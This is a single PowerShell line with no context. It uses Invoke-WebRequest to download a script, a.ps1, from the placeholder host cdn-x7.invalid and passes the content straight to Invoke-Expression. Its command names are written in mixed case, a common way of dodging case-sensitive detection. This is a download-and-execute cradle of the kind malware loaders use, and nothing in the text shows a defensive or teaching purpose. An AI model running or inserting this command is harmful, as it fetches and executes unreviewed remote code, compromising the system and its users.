iNvOKe-eXpReSsIoN (INVOKE-WEBREQUEST -useb https://cdn-x7.invalid/a.ps1).Content
